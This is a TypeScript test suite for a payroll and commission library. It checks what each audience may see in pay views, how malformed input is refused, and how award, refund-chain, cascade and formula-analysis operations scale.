import { readdirSync, readFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, test, vi } from 'vitest'
import { explainAward, giveAward, parseAward } from '../../src/bonus/index.js'
import { addDays, parseHistory, parsePeriod, periodContaining } from '../../src/calendar/index.js'
import { lintPlan, type PlanPolicy, parsePlan } from '../../src/commission/index.js'
import {
  creditDeals,
  type DealEvent,
  parseCreditData,
  parseCrediting,
  parseEvents,
  parseTouches,
} from '../../src/credit/index.js'
import {
  componentGaps,
  contributionShares,
  directiveReport,
  isSuppressed,
  kitagawa,
  type Person,
  theil,
} from '../../src/equity/index.js'
import {
  add,
  analyze,
  type Column,
  categoryColumn,
  check,
  compile,
  constant,
  divide,
  type Explanation,
  type Expression,
  evaluate,
  fold,
  input,
  marginal,
  match,
  maximum,
  minimum,
  multiply,
  numberColumn,
  parseFormula,
  renderHtml,
  renderMarkdown,
  renderText,
  splitGain,
  step,
  streamBatches,
  subtract,
} from '../../src/formula/index.js'
import { careerMermaid, parseCareer, parseCareerFramework } from '../../src/growth/index.js'
import { isPolicyError } from '../../src/index.js'
import { internalRate } from '../../src/investment/index.js'
import { cascadeTarget, distribute, parseCascade, parseDistribution } from '../../src/kpi/index.js'
import {
  explain as explainPay,
  type Line as PayLine,
  type Run as PayRun,
  parseData as parsePayData,
  parsePeople as parsePayPeople,
  parseRun as parsePayRun,
  attribute as payAttribute,
  book as payBook,
  book as payBookOf,
  component as payComponent,
  settle as settlePay,
} from '../../src/pay/index.js'
import * as payroll from '../../src/payroll/index.js'
import { verify as verifyRun, verifyChain as verifyRuns } from '../../src/payroll/index.js'
import { describeProblems, digestOf, PolicyError, problemsOf } from '../../src/problem/index.js'
import { formatNumber, formatQuantity, fromScaled, money, total } from '../../src/quantity/index.js'
import { correctRatings } from '../../src/rating/index.js'
import { allocateSql, selectSql } from '../../src/sql/index.js'
import { checkPolicy, describeReport, payDataOf, policyBooks } from '../../src/testing/index.js'
import { duckdb } from '../conformance/engines.js'
import { comparison, hourly, paid } from '../equity/company.js'
import { found } from '../found.js'
import * as career from '../growth/fixture.js'
import { base as payBase, li as payLi } from '../pay/months.js'
import * as firm from '../payroll/disclosure-company.js'
import { bookJson, policy as shopPolicy } from '../payroll/policies.js'
import { policy } from '../rating/campaign.js'
import { figuresOf, sale, shopOf } from './shop.js'

type Path = readonly string[]

function pathsIn(value: unknown, path: Path = []): readonly Path[] {
  if (typeof value !== 'object' || value === null) return [path]
  return [
    path,
    ...Object.entries(value).flatMap(([name, inner]) => pathsIn(inner, [...path, name])),
  ]
}

function replaced(value: unknown, [first, ...rest]: Path, by: unknown): unknown {
  if (first === undefined) return by
  const own = value as Readonly<Record<string, unknown>>
  const inner = replaced(own[first], rest, by)
  return Array.isArray(value)
    ? value.map((each, i) => (String(i) === first ? inner : each))
    : { ...own, [first]: inner }
}

describe('payroll: what no parser has read pays nobody, and a view shows no more than its audience may see', () => {
  const { about, company: of, data: known, dataOf: firmOf, key, march: paid, people: staff } = firm
  const given = ['employee', 'manager', 'peer', 'auditor'] as const
  const viewOf = (audience: string, run = paid, data = known) =>
    payroll.disclose(of, data, run, { key, about, person: 'li', audience })
  const drawnRuns = policyBooks('CNY')
    .map(payroll.parseBook)
    .chain((book) => fc.tuple(fc.constant(book), payDataOf(book).map(parsePayData)))
    .map(([book, data]) => ({
      ...{ book, data },
      run: settlePay(book, data, { period: '2026-01', before: 'first' }),
    }))

  test.each([
    ['manager', ['read', 'why', 'entitled', 'settled']],
    ['peer', ['read', 'why', 'entitled', 'settled']],
  ])('A3 the %s sees no mark of what is hidden, in any drawn run', (audience, hidden) => {
    const marked = (value: unknown): unknown => {
      if (typeof value === 'string') return `¤${value}`
      if (typeof value !== 'object' || value === null) return value
      return Object.fromEntries(Object.entries(value).map(([name, own]) => [name, marked(own)]))
    }
    const hiding = <T extends object>(each: T): T =>
      Object.fromEntries(
        Object.entries(each).map(([name, own]) => [
          name,
          hidden.includes(name) ? marked(own) : own,
        ]),
      ) as T
    fc.assert(
      fc.property(drawnRuns, fc.constantFrom('en', 'zh-CN'), ({ book, data, run }, locale) => {
        const lines = run.lines.map((line) => hiding({ ...line, parts: line.parts.map(hiding) }))
        for (const person of new Set(lines.map((line) => line.person))) {
          const asked = { key, person, audience }
          const view = payroll.disclose(book, data, { ...run, lines }, asked)
          expect(JSON.stringify(view)).not.toContain('¤')
          for (const format of ['text', 'markdown', 'html'] as const)
            expect(payroll.renderView(view, { locale, format, book })).not.toContain('¤')
        }
      }),
      { numRuns: 5 },
    )
  })

  test('A16 holds nothing that is not named, in any drawn run', () => {
    fc.assert(
      fc.property(drawnRuns, fc.constantFrom(...given), ({ book, data, run }, audience) => {
        for (const person of new Set(run.lines.map((line) => line.person))) {
          const asked = { key, person, audience }
          const view = payroll.disclose(book, data, noted(run), asked)
          expect(JSON.stringify(view)).not.toContain('¤')
          expect(view).toEqual(payroll.disclose(book, data, run, asked))
        }
      }),
      { numRuns: 5 },
    )
  })

  test.each(['boss', 'constructor', '__proto__'])(
    'A3 "%s" is nobody to whom a view is shown',
    (to) => {
      expect(found(() => viewOf(to))).toEqual([['unknown-audience', 'audience']])
    },
  )

  test('A3 a view that names no audience is read by nobody', () => {
    const { audience: _, ...view } = viewOf('employee')
    expect(found(() => payroll.parseView(view))).toEqual([['missing', 'audience']])
    const page = () =>
      payroll.renderView(view as payroll.View, { locale: 'en', format: 'html', book: of })
    expect(found(page)).toEqual([['missing', 'audience']])
  })

  const april = (before: PayRun, data = known) => settlePay(of, data, { period: '2026-04', before })
  const others = (change: Partial<(typeof staff)['wang']>) =>
    firmOf({ ...staff, wang: { ...staff.wang, ...change } as (typeof staff)['wang'] })
  test.each<[string, PayRun, typeof known]>([
    [
      'a rival’s score',
      firm.runOf(others({ score: '76' as '77' })),
      others({ score: '76' as '77' }),
    ],
    [
      'what another has sold',
      firm.runOf(others({ sales: '641.00' as '640.00' })),
      others({ sales: '641.00' as '640.00' }),
    ],
    [
      'the pay of all others before',
      april(
        firm.runOf(others({ sales: '641.00' as '640.00' })),
        others({ sales: '641.00' as '640.00' }),
      ),
      others({ sales: '641.00' as '640.00' }),
    ],
  ])('A1 A2 %s changes nothing that the employee is shown', (_, changed, data) => {
    const plain = changed.period === '2026-04' ? april(paid) : paid
    expect(changed.digest).not.toBe(plain.digest)
    const shown = (view: payroll.View) => [view.head.shown, ...view.lines.map((line) => line.shown)]
    for (const audience of ['employee', 'manager', 'peer'])
      expect(shown(viewOf(audience, changed, data))).toEqual(shown(viewOf(audience, plain)))
  })

  const award = {
    eligibility: [],
    ranking: [{ figure: 'score', unit: 'points', direction: 'higher' }],
    ties: 'share',
    prizes: ['500', '200'],
    budget: '700',
  }
  const weight = input('salary', money('CNY'), 2)
  const book = shopOf({
    plan: { quota: 'quota', floor: '100', gate: { kpi: 'kpi', atLeast: '0', keeps: '0.5' } },
    payments: { recovery: { share: '0.5' }, draw: { kind: 'recoverable', amount: '500' } },
    more: [
      shopPolicy('award', 'star', { award }),
      shopPolicy('adjustments', 'adjustments', {}),
      shopPolicy('pool', 'profit', {
        funding: { rounding: 'down', source: { kind: 'profit-share', rate: '0.05' } },
        division: { ties: 'id', levels: [{ level: 'person', weight }] },
        reads: { salary: { from: 'attribute', name: 'salary' } },
      }),
    ],
  })
  const whole = {
    people: [
      payLi(figuresOf({ kpi: '0.9', score: '96', quota: '1000.00' }, '2026-06')),
      {
        ...payLi({ employment: [{ from: '2026-06-16' }] }),
        absences: [{ id: 'a', from: '2026-06-17', to: '2026-06-17', kind: 'ill', part: '0.5' }],
        id: 'wu',
      },
    ],
    groups: [{ of: 'company', ...figuresOf({ profit: '40000.00' }, '2026-06') }],
    records: {
      adjustments: [
        { id: 'a1', on: '2026-06-30', person: 'li', amount: '-20.50', reason: 'Paid twice' },
      ],
    },
    deals: {
      events: [
        sale('s', '2026-06-10', '3000.00'),
        sale('b', '2026-06-20', '-100.00', { kind: 'refund', of: 's' }),
      ],
    },
  }
  const [first] = whole.people
  const june = { period: '2026-06', before: 'first' } as const
  const payOf = (json: unknown, request: object = june) =>
    payroll.run(
      book,
      payroll.parseRunData(book, json).data,
      request as Parameters<typeof payroll.run>[2],
    )

  test('A24 what was read is paid, as it is and as it was stored', () => {
    const run = payOf(whole)
    // Nobody gave Wu a KPI.
    expect(run.withheld.map(({ component, owner }) => [component, owner.person])).toEqual([
      ['plan', 'wu'],
      ['payments', 'wu'],
      ['payments.draw', 'wu'],
    ])
    expect(payOf(JSON.parse(JSON.stringify(whole)))).toEqual(run)
  })

  test.each<[string, object, string]>([
    ['people without an id', { people: [{ ...first, id: undefined }] }, 'people[0].id'],
    ['figures that are none', { people: [{ ...first, figures: {} }] }, 'people[0].figures'],
    ['no attributes', { people: [{ ...first, attributes: undefined }] }, 'people[0].attributes'],
    ['no employment', { people: [{ ...first, employment: null }] }, 'people[0].employment'],
    ['a name that is a number', { people: [{ ...first, name: 5 }] }, 'people[0].name'],
    ['a misspelt member', { people: [{ ...first, employmnet: [] }] }, 'people[0].employmnet'],
    [
      'events without attributes',
      { deals: { events: [{ ...sale('s', '2026-06-10', '1'), attributes: null }] } },
      'deals.events[0].attributes',
    ],
    ['a group of nothing', { groups: [{}] }, 'groups[0].of'],
    ['groups that are none', { groups: { company: {} } }, 'groups'],
    ['a group’s figures', { groups: [{ of: 'company', figures: {} }] }, 'groups[0].figures'],
    ['a record of nothing', { records: { adjustments: [{}] } }, 'records.adjustments[0].id'],
    ['records that are none', { records: { adjustments: null } }, 'records.adjustments'],
    ['a table’s name', { records: { 'no name': [] } }, 'records.no name'],
    [
      'a day',
      { people: [{ ...first, employment: [{ from: 'May' }] }] },
      'people[0].employment[0].from',
    ],
    ['a misspelt key', { adjustmnets: [] }, 'adjustmnets'],
    ['a key of the run before', { owed: {} }, 'owed'],
  ])('A24 data are refused for %s', (_, change, path) => {
    expect(problemsOf(() => payOf({ ...whole, ...change }))[0]?.path).toBe(path)
  })

  test.each([null, {}, [], 'x', undefined, { name: '2026-06' }, 5])(
    'A24 a run is refused for the period %j',
    (period) => {
      expect(problemsOf(() => payOf(whole, { ...june, period }))[0]?.path).toMatch(/^period/)
    },
  )

  test.each([null, {}, [], 'x', undefined, whole, { ...known }])(
    'A24 a run is refused for data that were not read: %#',
    (data) => {
      expect(found(() => payroll.run(book, data as typeof known, june))).toEqual([
        ['unread-data', 'data'],
      ])
    },
  )

  test.each([null, undefined, 'x', 5])('A24 a run is refused for the request %j', (request) => {
    const { data } = payroll.parseRunData(book, whole)
    expect(found(() => payroll.run(book, data, request as never))[0]?.[0]).toMatch(
      /wrong-type|missing/,
    )
  })

  test.each([
    [null, ''],
    [{ person: 'li' }, 'audience'],
    [{ person: 'li', audience: undefined }, 'audience'],
    [{ audience: 'peer' }, 'person'],
    [{ person: 'li', viewer: null }, 'viewer'],
    [{ person: 'li', viewer: { roles: 'hr' } }, 'viewer.roles'],
  ])('A24 nothing is disclosed for the request %j', (request, path) => {
    const { data } = payroll.parseRunData(book, whole)
    const run = payroll.run(book, data, june)
    const asked = request === null ? null : { key: 'k'.repeat(32), ...request }
    expect(problemsOf(() => payroll.disclose(book, data, run, asked as never))[0]?.path).toBe(path)
  })

  test('A24 data without end are refused', () => {
    const person: { attributes?: object } = { ...first }
    person.attributes = { salary: [person] }
    const row: Record<string, unknown> = { id: 'a', on: '2026-06-30', person: 'li', amount: '1' }
    row['more'] = row
    for (const endless of [{ people: [person] }, { records: { adjustments: [row] } }])
      expect(problemsOf(() => payOf({ ...whole, ...endless })).map(({ code }) => code)).toEqual([
        'too-deep',
      ])
  })

  test('A24 gives pay or a PolicyError, and nothing else, whatever is changed in it', () => {
    const asked = { data: whole, request: june }
    const paths = pathsIn(asked).filter((path) => path.length > 1)
    const odd = fc.constantFrom<unknown>(
      ...[undefined, null, {}, [], 'x', '', 5, true, [null], { x: null }, '0x10', '2026-13'],
    )
    fc.assert(
      fc.property(fc.constantFrom(...paths), odd, (path, value) => {
        const { data, request } = replaced(asked, path, value) as typeof asked
        const told = problemsOf(() => payOf(data, request))
        expect(describeProblems(told, 'zh-CN')).not.toContain('undefined undefined')
      }),
      { numRuns: 200 },
    )
  })

  const stored = JSON.parse(JSON.stringify(viewOf('employee'))) as payroll.View
  test.each<[string, (json: unknown) => unknown, object, string]>([
    ['a run', parsePayRun, { ...paid, owde: {} }, 'owde'],
    ['the lines of a run', parsePayRun, { ...paid, lines: {} }, 'lines'],
    [
      'a line of a run',
      parsePayRun,
      { ...paid, lines: [{ ...paid.lines[0], note: 'x' }] },
      'lines[0].note',
    ],
    ['a view', payroll.parseView, { ...stored, hrNote: 'x' }, 'hrNote'],
    [
      'a line of a view',
      payroll.parseView,
      { ...stored, lines: [{ ...stored.lines[0], note: 'x' }] },
      'lines[0].note',
    ],
  ])(
    'A24 what is stored is refused for a misspelt or a wrong part: %s',
    (_, parse, value, path) => {
      expect(problemsOf(() => parse(value)).map((each) => each.path)).toContain(path)
    },
  )

  test('A24 a view that was stored is verified, or refused when it is read', () => {
    const { root } = payroll.seal(of, known, paid, { key, about })
    const paths = pathsIn(stored).filter((path) => path.length > 0)
    const odd = fc.constantFrom<unknown>(undefined, null, {}, [], 'x', 5)
    fc.assert(
      fc.property(fc.constantFrom(...paths), odd, (path, value) => {
        const changed = replaced(stored, path, value) as payroll.View
        if (JSON.stringify(changed) === JSON.stringify(stored)) return
        expect(payroll.verifyView(changed, root).length).toBeGreaterThan(0)
        problemsOf(() => payroll.verifyView(payroll.parseView(changed), root))
      }),
      { numRuns: 50 },
    )
  })

  test.each(['0x10', '1e400', '1e9000000', ' 5', '+5', '.5', `1${'0'.repeat(60)}`, 'Infinity'])(
    'A25 an amount of %s is paid to nobody',
    (amount) => {
      const [correction] = whole.records.adjustments
      const records = { adjustments: [{ ...correction, amount }] }
      // A text in a record may be anything; as an amount it is none.
      const paidOf = () =>
        payOf({ ...whole, records }).lines.filter(({ component }) => component === 'adjustments')
      expect(problemsOf(paidOf).length > 0 || paidOf().length === 0).toBe(true)
      const deals = { events: [sale('s', '2026-06-10', amount)] }
      expect(problemsOf(() => payOf({ ...whole, deals }))[0]?.path).toBe('deals.events[0].amount')
    },
  )

  /** Every object with a member that no run has, but for what formulas read: that has any names. */
  function noted<T>(value: T): T {
    if (typeof value !== 'object' || value === null) return value
    if (Array.isArray(value)) return value.map(noted) as T
    const own = Object.entries(value).map(([name, inner]) => [
      name,
      name === 'read' ? inner : noted(inner),
    ])
    return { ...Object.fromEntries(own), '¤note': '¤' } as T
  }
})

describe('awards: an award of which all win', () => {
  const terms = {
    id: 'present',
    currency: 'CNY',
    eligibility: [],
    ranking: [{ figure: 'days', unit: 'count', direction: 'higher' }],
    prizes: ['100'],
    budget: '100000',
  }
  const entries = (many: number, days: (i: number) => number) =>
    Array.from({ length: many }, (_, i) => ({
      id: `p${String(i).padStart(5, '0')}`,
      figures: { days: days(i) },
    }))
  const asOf = '2026-06-30'
  const give = (change: object, many: number, days: (i: number) => number = () => 21) =>
    giveAward(parseAward({ ...terms, ...change }), { asOf, entries: entries(many, days) })
  const textOf = (result: ReturnType<typeof give>, id: string, locale: 'en' | 'zh-CN' = 'en') =>
    renderText(explainAward(result, id, { locale }))

  test('A5 names five, and counts the others', () => {
    const result = give({ ties: 'all-win' }, 1_001)
    expect(textOf(result, 'p00003')).toContain(
      'Equal in every criterion: p00000, p00001, p00002, p00004, p00005 and 995 others\n',
    )
    expect(textOf(result, 'p00003', 'zh-CN')).toContain('p00004、p00005，另有 995 名\n')
    expect(textOf(give({ ties: 'all-win' }, 7), 'p00000')).toContain('p00005 and 1 other\n')
    expect(textOf(give({ ties: 'all-win' }, 6), 'p00000')).toMatch(/p00005$/m)
  })

  test.each([
    ['all win, beyond the budget', { ties: 'all-win' }, () => 21, '50.00'],
    [
      'all share as many prizes',
      { ties: 'share', prizes: Array(2_000).fill('10') },
      () => 21,
      '10.00',
    ],
    ['all share one prize', { ties: 'share' }, () => 21, '0.05'],
    ['no two are equal', { ties: 'all-win' }, (i: number) => 9_999 - i, '100.00'],
  ])('A5 takes work and text by the number of entries: %s', (_, change, days, prize) => {
    const result = give(change, 2_000, days)
    expect(result.standings[0]?.prize).toBe(prize)
    const texts = result.standings.map(({ id }) => textOf(result, id))
    expect(Math.max(...texts.map(({ length }) => length))).toBeLessThan(500)
    expect(JSON.stringify(result).length).toBeLessThan(2_000 * 300 + JSON.stringify(change).length)
  })

  test('A5 is paid to 400 people in lines and explanations of a size that does not grow with them', () => {
    const everybody = entries(400, () => 21).map(({ id }) => ({
      ...payLi(figuresOf({ days: '21' }, '2026-06')),
      id,
      name: `Name of ${id}`,
    }))
    const { id: _, currency: __, ...own } = terms
    const book = shopOf({
      more: [shopPolicy('award', 'star', { award: { ...own, ties: 'all-win' } })],
    })
    const { data } = payroll.parseRunData(book, { people: everybody })
    const run = payroll.run(book, data, { period: '2026-06', before: 'first' })
    const [company] = payroll.totals(book, data, [run]).paid
    expect(company?.company.components['star']).toBe('40000.00')
    const lines = run.lines.filter(({ component }) => component === 'star')
    expect(Math.max(...lines.map((line) => JSON.stringify(line).length))).toBeLessThan(2_000)
    for (const locale of ['en', 'zh-CN'] as const) {
      const why = explainPay(book, data, run, { component: 'star', person: 'p00007', locale })
      expect(renderText(why).length).toBeLessThan(3_000)
    }
  })

  test('A5 of sales as well: a contest in which all are equal', () => {
    const many = entries(400, () => 0)
    const book = shopOf({
      more: [
        shopPolicy('contest', 'sprint', {
          table: 'desk',
          contest: {
            from: '2026-06-01',
            to: '2026-06-30',
            credit: 'direct',
            prizes: ['1000', '10'],
          },
        }),
      ],
    })
    const desk = many.map(({ id }) => ({
      ...{ id, deal: id, person: id, credit: 'direct', on: '2026-06-02', sales: '5.00' },
    }))
    const people = many.map(({ id }) => ({ ...payLi(), id }))
    const { data } = payroll.parseRunData(book, { people, records: { desk } })
    const run = payroll.run(book, data, { period: '2026-06', before: 'first' })
    const prizes = run.lines.flatMap((line) => (line.component === 'sprint' ? [line.amount] : []))
    expect(prizes).toHaveLength(400)
    expect(new Set(prizes)).toEqual(new Set(['2.52', '2.53']))
    expect(total(prizes, 2)).toBe('1010.00')
  })
})

describe('chains, circles, cascades and touches: each is passed once', () => {
  const chain = (length: number, last?: string) =>
    Array.from({ length }, (_, i) => ({
      node: `n${i}`,
      weight: '1',
      ...(i > 0 ? { parent: `n${i - 1}` } : last !== undefined && { parent: last }),
    }))
  const cascadeOf = (nodes: readonly object[]) => parseCascade({ id: 'c', places: 0, nodes })

  test('A11 a cascade of 5,000 levels comes down, in the order of its branches', () => {
    const targets = cascadeTarget(cascadeOf(chain(5_000)), '7')
    expect(targets).toHaveLength(5_000)
    expect(targets.at(-1)).toEqual({ node: 'n4999', parent: 'n4998', target: '7' })
    const branches = [
      { node: 'a', weight: '1' },
      { node: 'b', weight: '1' },
      { node: 'b1', parent: 'b', weight: '1' },
      { node: 'a1', parent: 'a', weight: '1' },
      { node: 'a11', parent: 'a1', weight: '1' },
    ]
    expect(cascadeTarget(cascadeOf(branches), '10').map(({ node }) => node)).toEqual([
      ...['a', 'a1', 'a11', 'b', 'b1'],
    ])
  })

  test('A11 a cascade of 5,000 nodes under one is shared', () => {
    const wide = [
      { node: 'top', weight: '1' },
      ...chain(5_000).map((each) => ({ ...each, parent: 'top' })),
    ]
    expect(
      cascadeTarget(cascadeOf(wide), '10000').filter(({ target }) => target === '2'),
    ).toHaveLength(5_000)
  })

  test('A11 a circle of 5,000 nodes is told, node by node, and not what leads into it', () => {
    const into = { node: 'x', weight: '1', parent: 'n7' }
    const top = { node: 'top', weight: '1' }
    const told = found(() => cascadeOf([into, top, ...chain(5_000, 'n4999')]))
    expect(told).toHaveLength(100)
    expect(told[0]).toEqual(['cyclic-cascade', 'nodes[2].parent'])
    expect(told.at(-1)?.[0]).toBe('more-problems')
  })

  const crediting = (credits: object) =>
    parseCrediting({ currency: 'CNY', credits, belowZero: 'list' })
  const direct = crediting({ direct: { rules: [{ owner: 'seller' }] } })
  const common = { on: '2026-01-10', amount: '1', currency: 'CNY' }
  const order = { ...common, id: 'e-1', kind: 'order', attributes: { seller: 'li' } }
  const refund = (id: string, of: string) => ({ ...common, id, of, kind: 'refund', amount: '-1' })
  const refunds = (length: number) => Array.from({ length }, (_, i) => refund(`e${i}`, `e${i - 1}`))
  const credited = (events: readonly object[]) =>
    creditDeals(direct, parseCreditData({ events })).credits

  test.each<[string, (events: readonly object[]) => readonly object[]]>([
    ['oldest first', (events) => events],
    ['latest first', (events) => events.toReversed()],
  ])('A12 a chain of 10,000 refunds leads to its order, %s', (_, ordered) => {
    const credits = credited(ordered([order, ...refunds(10_000)]))
    expect(credits).toHaveLength(10_001)
    expect(credits.every(({ deal }) => deal === 'e-1')).toBe(true)
  })

  test('A12 10,000 refunds that point into a circle of two are told, each once', () => {
    const circle = [refund('a', 'b'), refund('b', 'a')]
    const into = Array.from({ length: 10_000 }, (_, i) => refund(`e${i}`, 'a'))
    const told = found(() => credited([...into, ...circle]))
    expect(told).toHaveLength(100)
    expect(new Set(told.map(([code]) => code))).toEqual(new Set(['endless-chain', 'more-problems']))
    expect(told[98]).toEqual(['endless-chain', 'events[98].of'])
  })

  test('A12 a chain of 10,000 refunds whose first is unknown is told once, where it begins', () => {
    expect(found(() => credited(refunds(10_000)))).toEqual([['unknown-original', 'events[0].of']])
  })

  const sales = parseEvents(
    Array.from({ length: 2_000 }, (_, i) => ({
      ...{ ...order, id: `s${i}`, attributes: { customer: 'c' } },
      on: addDays('2026-01-01', i % 50),
    })),
  )
  const touches = parseTouches(
    Array.from({ length: 2_000 }, (_, i) => ({
      ...{ id: `t${i}`, key: 'c', person: i % 3 === 0 ? 'amina' : 'ben' },
      on: addDays('2025-12-20', i % 60),
    })),
  )

  test.each([
    ['first', {}],
    ['last', {}],
    ['linear', {}],
    ['position', { first: '0.4', middle: '0.2', last: '0.4' }],
    ['time-decay', { halfLife: 7 }],
  ])('A13 2,000 sales to a customer of 2,000 touches are attributed: %s', (kind, more) => {
    const model = { kind, ...more }
    const rules = crediting({
      indirect: { touches: { by: 'customer', window: 30, model } },
    })
    const shared = (events: readonly DealEvent[]) =>
      creditDeals(rules, parseCreditData({ events, touches })).credits
    const credits = shared(sales)
    expect(new Set(credits.map(({ event }) => event)).size).toBe(2_000)
    // As it is for a sale alone.
    for (const event of [sales[0], sales[49], sales[777]] as DealEvent[])
      expect(credits.filter((own) => own.event === event.id)).toEqual(shared([event]))
  })
})

describe('formulas: large tables and large teams take time by their size', () => {
  const sales = input('sales', money('CNY'), 2)
  const numbers = (length: number) => Array.from({ length }, (_, i) => i)
  const rateOf = (i: number) => fromScaled(BigInt((i * 7) % 100), 3)

  test('A9 3,000 tiers compile, and pay what evaluate pays', () => {
    const tiers = numbers(3_000).map((i) => ({ from: `${i * 10}`, rate: rateOf(i) }))
    const formula = check(marginal(sales, tiers))
    const cents = [-100, 999, 1000, 1001, 99_999_999]
    const { values, scale } = compile(formula)({ sales: Float64Array.from(cents) })
    expect([...values].map((value) => fromScaled(BigInt(value), scale))).toEqual(
      cents.map((cent) => evaluate(formula, { sales: fromScaled(BigInt(cent), 2) }).value),
    )
  })

  test.each([
    [
      'a step',
      step(
        sales,
        numbers(3_000).map((i) => ({ ...(i > 0 && { from: `${i}` }), value: `${i}` })),
      ),
    ],
    [
      'tiers from minus infinity',
      marginal(
        sales,
        numbers(3_000).map((i) => ({ ...(i > 0 && { from: `${i}` }), rate: rateOf(i) })),
      ),
    ],
  ])('A9 so does %s of 3,000', (_, expression) => {
    const formula = check(expression)
    const cents = [-100, 0, 12_345, 2_000_001]
    const { values, scale } = compile(formula)({ sales: Float64Array.from(cents) })
    expect([...values].map((value) => fromScaled(BigInt(value), scale))).toEqual(
      cents.map((cent) => evaluate(formula, { sales: fromScaled(BigInt(cent), 2) }).value),
    )
  })

  test('A9 so does a choice of 2,000 categories', () => {
    const names = numbers(2_000).map((i) => `c${i}`)
    const cases = Object.fromEntries(names.map((name, i) => [name, constant(`${i}`)]))
    const formula = check(match('k', cases, constant('-1')))
    const dictionary = ['c0', 'c1999', 'other', 'c777']
    const { values } = compile(formula)({ k: { codes: Uint16Array.of(0, 1, 2, 3), dictionary } })
    expect([...values]).toEqual([0, 1999, -1, 777])
  })

  const x = input('x', 'count', 0)
  const count = (value: number) => constant(`${value}`, 'count')
  const least = (bound: number) => minimum(x, count(bound))
  const thousands = (make: (i: number) => Expression) => numbers(1_500).map(make)

  test('A10 a sum of 240 minimums is analysed exactly', () => {
    const bounds = numbers(240).map((i) => i * 7 + 1)
    const { pieces, nondecreasing, range } = analyze(check(add(...bounds.map(least))), {
      over: 'x',
    })
    expect(pieces).toHaveLength(241)
    expect(pieces[0]).toMatchObject({ from: '0', to: '1', slope: '240' })
    expect(nondecreasing).toBe(true)
    expect(range).toEqual({
      low: '0',
      high: `${bounds.reduce((sum, bound) => sum + bound)}`,
      exact: true,
    })
  })

  test('A10 a table of 500 tiers or bands is analysed, each tier and band told of', () => {
    const tiers = numbers(500).map((i) => ({ from: `${i * 10}`, rate: rateOf(i) }))
    const { pieces, choices, dead } = analyze(check(marginal(x, tiers)), { over: 'x' })
    expect(pieces).toHaveLength(500)
    expect(choices[0]?.branches).toHaveLength(500)
    expect(dead).toEqual([])
    const some = analyze(check(marginal(x, tiers)), { over: 'x', domain: { to: '2500' } })
    expect(some.dead).toHaveLength(250)
    const bands = numbers(500).map((i) => ({ ...(i > 0 && { from: `${i}` }), value: `${i}` }))
    expect(analyze(check(step(x, bands)), { over: 'x' }).pieces).toHaveLength(500)
  })

  const large: readonly (readonly [string, Expression, string])[] = [
    [
      'the greatest of 1,500 lines',
      maximum(...thousands((i) => subtract(multiply(x, count(i)), count(i * i)))),
      'too-much-work',
    ],
    ['a sum of 1,000 squares', add(...numbers(1_000).map(() => multiply(x, x))), 'too-much-work'],
    [
      'a table of 3,000 tiers',
      marginal(
        x,
        numbers(3_000).map((i) => ({ from: `${i}`, rate: rateOf(i) })),
      ),
      'too-many-pieces',
    ],
    [
      'a table of 3,000 bands',
      step(
        x,
        numbers(3_000).map((i) => ({ ...(i > 0 && { from: `${i}` }), value: `${i}` })),
      ),
      'too-many-pieces',
    ],
  ]
  test.each(large)('A10 the analysis of %s is bounded', (_, expression, code) => {
    const [problem] = problemsOf(() => analyze(check(expression), { over: 'x' }))
    expect(problem?.code).toBe(code)
  })

  test('A10 the analysis says in both languages what to do', () => {
    const tell = (locale: 'en' | 'zh-CN') =>
      describeProblems(
        problemsOf(() => analyze(check(large[1]?.[1] as Expression), { over: 'x' })),
        locale,
      )
    expect(tell('en')).toMatch(
      /an exact analysis would take more than 300000 steps. Analyse a smaller domain, or split the rule into several formulas.$/,
    )
    expect(tell('zh-CN')).toMatch(/精确分析超过 300000 步。请缩小分析范围，或把规则拆成几个公式。$/)
  })

  test('A10 the splits of a deal are bounded', () => {
    const tiers = numbers(20).map((i) => ({ from: `${i * 10}`, rate: rateOf(i) }))
    const analysis = analyze(check(marginal(x, tiers)), { over: 'x' })
    expect(splitGain(analysis, { amount: '100', parts: 3 }).parts).toEqual(['100'])
    const told = problemsOf(() => splitGain(analysis, { amount: '1000', parts: 5 }))
    expect(told.map(({ code, path }) => `${code} ${path}`)).toEqual(['too-much-work parts'])
  })

  test('A10 a rule that is too large to be analysed is refused, and not called fair', () => {
    const rule = {
      name: 'large',
      formula: check(large[0]?.[1] as Expression),
      measures: [{ input: 'x', better: 'higher' as const }],
    }
    const told = problemsOf(() => checkPolicy(rule, { laws: ['monotone'] }))
    expect(told.map(({ code, path }) => `${code} ${path}`)).toEqual(['too-much-work large'])
  })

  const teamOf = (scores: readonly number[], ties: 'better' | 'worse') => {
    const policy = parseDistribution({
      id: 'year',
      bands: [
        { band: 'A', share: '0.2' },
        { band: 'B', share: '0.8' },
      ],
      ties,
      smallestTeam: 1,
    })
    return distribute(
      policy,
      scores.map((score, i) => ({ id: `p${i}`, score: `${score}.0` })),
    )
  }

  test.each([
    ['all tied', () => 80],
    ['two halves', (i: number) => i % 2],
    ['all apart', (i: number) => i],
  ])('A13 a team of 16,000 is distributed: %s', (_, scoreOf) => {
    const { people, bands } = teamOf(numbers(16_000).map(scoreOf), 'worse')
    expect(people).toHaveLength(16_000)
    expect(bands.map(({ planned }) => planned)).toEqual([3_200, 12_800])
  })

  test('A13 a drawn team is ranked by how many score more', () => {
    fc.assert(
      fc.property(
        fc.array(fc.nat(5), { minLength: 1 }),
        fc.constantFrom('better' as const, 'worse' as const),
        (scores, ties) => {
          const { people } = teamOf(scores, ties)
          expect(people.map(({ id, rank }) => [id, rank]).toSorted()).toEqual(
            scores
              .map((own, i) => [`p${i}`, 1 + scores.filter((score) => score > own).length])
              .toSorted(),
          )
        },
      ),
    )
  })
})

describe('problem: what is refused is told shortly, and hostile text stays text', () => {
  /** No refusal is longer: 100 problems, each of a bounded path, message and hint. */
  const longest = 400_000

  const messageOf = (task: () => unknown): string => {
    try {
      task()
    } catch (error) {
      if (!isPolicyError(error)) throw error
      return error.message
    }
    return ''
  }

  /** A book of so many departments that name payment policies, and of so many such policies. */
  /** Components of long names, and as many limits that name what is wanted. */
  const bookOf = (count: number, wanted: (i: number) => string) =>
    bookJson(
      Array.from({ length: count }, (_, i) =>
        shopPolicy('salary', `${'p'.repeat(56)}${String(i).padStart(4, '0')}`, { prorated: false }),
      ),
      {
        limits: Array.from({ length: count }, (_, i) => ({
          ...{ id: `l${i}`, most: '1', breach: 'report' },
          of: { components: [wanted(i)] },
        })),
      },
    )

  test.each<[string, (i: number) => string, RegExp]>([
    ['near names', (i) => `${'p'.repeat(56)}x${i}`, /Perhaps "p{56}\d+" was meant/],
